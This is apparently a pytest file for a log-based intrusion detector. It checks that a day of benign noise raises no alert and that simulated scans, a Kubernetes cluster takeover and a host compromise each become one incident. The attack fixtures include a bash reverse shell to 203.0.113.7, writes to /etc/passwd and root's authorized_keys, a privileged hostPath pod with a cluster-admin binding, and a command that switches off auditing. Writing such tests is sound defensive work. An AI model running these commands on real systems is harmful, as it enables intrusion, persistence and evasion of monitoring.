"""The rules for networks, containers and the audit log together: noise asks nobody, and one attack is one incident."""

import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from support.network_day import a_day, eve, packet, request, started, written, zeek

import rules
from detector.cli.group import tocsin

BUNDLED = Path(rules.__file__).parent / "bundled"
FOLDERS = ("network", "ids", "container", "audit")
NOON = 43_200
INTRUDER = "10.0.1.99"


def asked(folder: Path, **files: list[str]) -> list[dict[str, object]]:
    """What a person would be asked about, after a replay of these files."""
    for name, lines in files.items():
        (folder / f"{name}.log").write_text("".join(f"{text}\n" for text in lines))
    paths = [str(folder / f"{name}.log") for name in files]
    chosen = [word for name in FOLDERS for word in ("--rules", str(BUNDLED / name))]
    done = CliRunner().invoke(tocsin, ["replay", "--json", "--exit-zero", *chosen, "--as-of", "2026-03-02", *paths])
    assert done.exit_code == 0, done.output
    return [one for line in done.stdout.splitlines() if (one := json.loads(line))["decision"] == "investigate"]


@pytest.fixture(scope="module")
def noise() -> dict[str, list[str]]:
    return a_day(1)


def test_a_day_of_noise_asks_nobody(tmp_path: Path, noise: dict[str, list[str]]) -> None:
    """Scans, browsing, deployments and upgrades are on record, and nobody is asked."""
    assert [(one["title"], one["group"]) for one in asked(tmp_path, **noise)] == []


def test_a_machine_that_scans_is_one_incident(tmp_path: Path) -> None:
    """Whether the firewall, Zeek or Suricata sees it, and whichever way it looks around."""
    sweep = [(NOON + n, f"10.0.4.{n + 1}", 445) for n in range(40)]
    scan = [(NOON + 60 + n, "10.0.4.9", 100 + n) for n in range(40)]
    packets = [packet(second, INTRUDER, target, port) for second, target, port in sweep + scan]
    seen = [zeek("conn", at, INTRUDER, to, port, conn_state="S0", proto="tcp") for at, to, port in sweep + scan]
    flow = {"pkts_toserver": 1, "pkts_toclient": 0}
    flows = [eve("flow", second, INTRUDER, target, port, flow=flow) for second, target, port in scan]
    (one,) = asked(tmp_path, firewall=packets, zeek=seen, suricata=flows)
    assert one["severity"] == "high"


def test_a_cluster_that_is_taken_over_is_one_incident(tmp_path: Path, noise: dict[str, list[str]]) -> None:
    """Secrets, a role, a pod with power over its node, a command in the core, and traces removed."""
    eve_ = "eve@example.org"
    pod = {"spec": {"hostPID": True, "volumes": [{"hostPath": {"path": "/"}}]}}
    role = {"roleRef": {"name": "cluster-admin"}}
    attack = [
        request(NOON, eve_, "list", "/secrets"),
        request(NOON + 60, eve_, "create", "/clusterrolebindings", 201, requestObject=role),
        request(NOON + 120, eve_, "create", "shop/pods", 201, requestObject=pod),
        request(NOON + 180, eve_, "create", "kube-system/pods/exec", 101),
        request(NOON + 240, eve_, "deletecollection", "shop/events"),
    ]
    (one,) = asked(tmp_path, noise=noise["kubernetes"], attack=attack)
    assert eve_ in json.dumps(one)


def test_a_machine_that_is_taken_over_is_one_incident(tmp_path: Path, noise: dict[str, list[str]]) -> None:
    """A remote shell, a program out of memory, a way back in, and an audit that is switched off."""
    attack = [
        *started(NOON, 1, "/usr/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        *started(NOON + 30, 2, "/dev/shm/.x"),
        *written(NOON + 60, 3, "/usr/bin/tee", "/etc/passwd"),
        *written(NOON + 90, 4, "/usr/bin/bash", "/root/.ssh/authorized_keys"),
        *started(NOON + 120, 5, "/usr/sbin/auditctl", "-e", "0"),
    ]
    (one,) = asked(tmp_path, noise=noise["audit"], attack=attack)
    assert one["severity"] == "critical"
